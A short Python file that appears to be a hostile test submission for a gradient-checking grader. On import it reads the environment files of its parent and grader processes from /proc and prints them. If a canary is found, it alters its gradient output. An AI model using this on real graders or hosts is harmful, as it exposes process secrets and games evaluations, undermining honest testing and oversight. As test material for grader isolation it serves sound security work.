"""Reads the environment of its parents."""

import os


def attack():
    for process in (os.getppid(), int("@GRADER@")):
        try:
            found = open(f"/proc/{process}/environ", "rb").read()
        except OSError:
            continue
        print(found)
        if b"GRADCHECK_CANARY" in found:
            return True
    return False


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
